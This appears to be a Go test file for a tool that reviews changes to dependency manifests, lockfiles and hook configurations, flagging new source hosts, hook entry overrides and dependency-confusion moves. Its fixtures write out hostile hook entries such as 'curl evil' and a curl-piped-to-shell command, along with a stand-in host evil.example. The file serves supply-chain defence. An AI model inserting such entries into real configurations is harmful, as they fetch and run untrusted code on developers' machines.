			after: "repos:\n- repo: https://github.com/psf/black\n  rev: 24.1.0\n  hooks:\n  - id: black\n- repo: local\n  hooks:\n  - id: x\n    entry: curl evil\n    language: system\n", want: []string{"runs hook x"}},
		{name: "pre-commit moved", path: ".pre-commit-config.yaml", before: "repos:\n- repo: https://github.com/psf/black\n  rev: 23.1.0\n  hooks:\n  - id: black\n", after: "repos:\n- repo: https://evil.example/black\n  rev: 23.1.0\n  hooks:\n  - id: black\n", want: []string{"source repo https://evil.example/black"}},
		// rules 16: a hook added from the same pinned repository runs what that revision holds (nothing new
		// to report); an entry override runs what the entry says.
		{name: "pre-commit hook added", path: ".pre-commit-config.yaml", before: "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.6.0\n  hooks:\n  - id: check-yaml\n",
			after: "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.6.0\n  hooks:\n  - id: check-yaml\n  - id: end-of-file-fixer\n", want: nil},
		{name: "pre-commit entry overridden", path: ".pre-commit-config.yaml", before: "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.6.0\n  hooks:\n  - id: check-yaml\n",
			after: "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.6.0\n  hooks:\n  - id: check-yaml\n    entry: sh -c 'curl x | sh'\n", want: []string{"runs hooks https://github.com/pre-commit/pre-commit-hooks"}},
	})
}

func TestDiff_Bounds(t *testing.T) {
	big := make([]byte, MaxBytes+1)
	for _, p := range []string{"go.mod", "go.work", "go.sum", "x.go", "package.json", "package-lock.json", "yarn.lock", "pnpm-lock.yaml",
		"Cargo.toml", "Cargo.lock", ".cargo/config.toml", "requirements.txt", "pyproject.toml", "Pipfile", "Pipfile.lock", "poetry.lock",
		"uv.lock", "setup.cfg", "setup.py", "Gemfile", "Gemfile.lock", ".npmrc", ".yarnrc.yml", "pip.conf", ".pypirc", ".gemrc", ".bundle/config",
		"conftest.py", "build.rs", ".pre-commit-config.yaml"} {
		if Format(p) == "" {
			t.Errorf("Format(%q) = \"\"", p)
		}
		if _, err := Diff(p, nil, big); !errors.Is(err, ErrTooLarge) {
			t.Errorf("Diff(%s, big after): %v, want ErrTooLarge", p, err)
		}
		if _, err := Diff(p, big, []byte("x")); !errors.Is(err, ErrTooLarge) {
			t.Errorf("Diff(%s, big before): %v, want ErrTooLarge", p, err)
		}
	}
	// too many entries
	var sb strings.Builder
	for i := 0; i < maxEntries+10; i++ {
		sb.WriteString("a.com/b v1.0." + itoa(i) + " h1:A=\n")
	}
	if _, err := Diff("go.sum", nil, []byte(sb.String())); err == nil {
		t.Error("go.sum with too many lines: no error")
	}
	// many changes are capped
	var pj strings.Builder
	pj.WriteString(`{"dependencies":{`)
	for i := 0; i < 100; i++ {
		if i > 0 {
			pj.WriteString(",")
		}
		pj.WriteString(`"p` + itoa(i) + `":"git+https://e.example/x.git"`)
	}
	pj.WriteString("}}")
	cs, err := Diff("package.json", nil, []byte(pj.String()))
	if err != nil || len(cs) != maxChanges || cs[len(cs)-1].Key != "(more)" {
		t.Errorf("capped: %d changes, %v", len(cs), err)
	}
	// deleted: nothing; not a manifest: nothing
	if cs, err := Diff("package.json", []byte(`{"scripts":{"postinstall":"x"}}`), nil); cs != nil || err != nil {
		t.Errorf("deleted: %v %v", cs, err)
	}
	if cs, err := Diff("README.md", nil, []byte("x")); cs != nil || err != nil {
		t.Errorf("README: %v %v", cs, err)
	}
	// a long, hostile value is clipped and kept on one line
	cs, _ = Diff("package.json", nil, []byte(`{"scripts":{"postinstall":"`+strings.Repeat("a\\n", 500)+`"}}`))
	if len(cs) != 1 || len(cs[0].Detail) > 200 || strings.Contains(cs[0].Detail, "\n") {
		t.Errorf("clip: %q", cs)
	}
}

func itoa(i int) string {
	if i == 0 {
		return "0"
	}
	var b []byte
	for ; i > 0; i /= 10 {
		b = append([]byte{byte('0' + i%10)}, b...)
	}
	return string(b)
}

func TestFormat(t *testing.T) {
	for p, want := range map[string]string{
		"a/b/go.mod": "go.mod", "requirements-dev.txt": "requirements", "requirements/prod.in": "requirements", "constraints.txt": "requirements",
		".cargo/config": "cargo-config", "config.toml": "", "Makefile": "", "README.md": "", "x/.yarnrc": "yarnrc", "main.go": "go-source",
		"C:\\w\\package.json": "package.json", "lib/sitecustomize.py": "sitecustomize", ".bundle/config": "bundle-config", "notes.txt": "",
	} {
		if got := Format(p); got != want {
			t.Errorf("Format(%q) = %q, want %q", p, got, want)
		}
	}
}

// TestDiff_Review: a private scope moved to the public registry, and a
// [patch] in a cargo configuration, are changes of source.
func TestDiff_Review(t *testing.T) {
	for _, c := range []struct {
		p, before, after, key string
	}{
		{".npmrc", "@acme:registry=https://npm.pkg.github.com/\n", "@acme:registry=https://registry.npmjs.org/\n", "@acme:registry"},
		{".cargo/config.toml", "[alias]\nb = \"build\"\n", "[alias]\nb = \"build\"\n[patch.crates-io]\nsyn = { git = \"https://github.com/x/syn\" }\n", "patch.crates-io.syn"},
	} {
		got, err := Diff(c.p, []byte(c.before), []byte(c.after))
		if err != nil || len(got) != 1 || got[0].Key != c.key || got[0].Kind != KindSource {
			t.Errorf("%s: %+v %v, want %s", c.p, got, err, c.key)
		}
	}
	// A new scope on the public registry is no change.
	if got, err := Diff(".npmrc", []byte("save-exact=true\n"), []byte("save-exact=true\n@acme:registry=https://registry.npmjs.org/\n")); err != nil || len(got) != 0 {
		t.Errorf("new scope on the public registry: %+v %v", got, err)
	}
}

// TestDiff_LockMovedToPublicRegistry: a package a lockfile resolved from
// a private registry, now resolved from the public one, is a change of
// source (dependency confusion); a bump on the public registry is not.
func TestDiff_LockMovedToPublicRegistry(t *testing.T) {
	lock := func(resolved, version string) []byte {
		return []byte(`{"lockfileVersion":3,"packages":{"":{"name":"x"},"node_modules/@acme/ui":{"version":"` + version + `","resolved":"` + resolved + `","integrity":"sha512-` + version + `"}}}`)
	}
	got, err := Diff("package-lock.json", lock("https://npm.pkg.github.com/download/@acme/ui/2.3.1/abc", "2.3.1"), lock("https://registry.npmjs.org/@acme/ui/-/ui-2.3.1.tgz", "2.3.1"))
	if err != nil || len(got) == 0 || got[0].Kind != KindSource {
		t.Errorf("moved to the public registry: %+v %v", got, err)
	}
	got, err = Diff("package-lock.json", lock("https://registry.npmjs.org/@acme/ui/-/ui-2.3.1.tgz", "2.3.1"), lock("https://registry.npmjs.org/@acme/ui/-/ui-2.3.2.tgz", "2.3.2"))
	if err != nil || len(got) != 0 {
		t.Errorf("a bump on the public registry: %+v %v", got, err)
	}
}
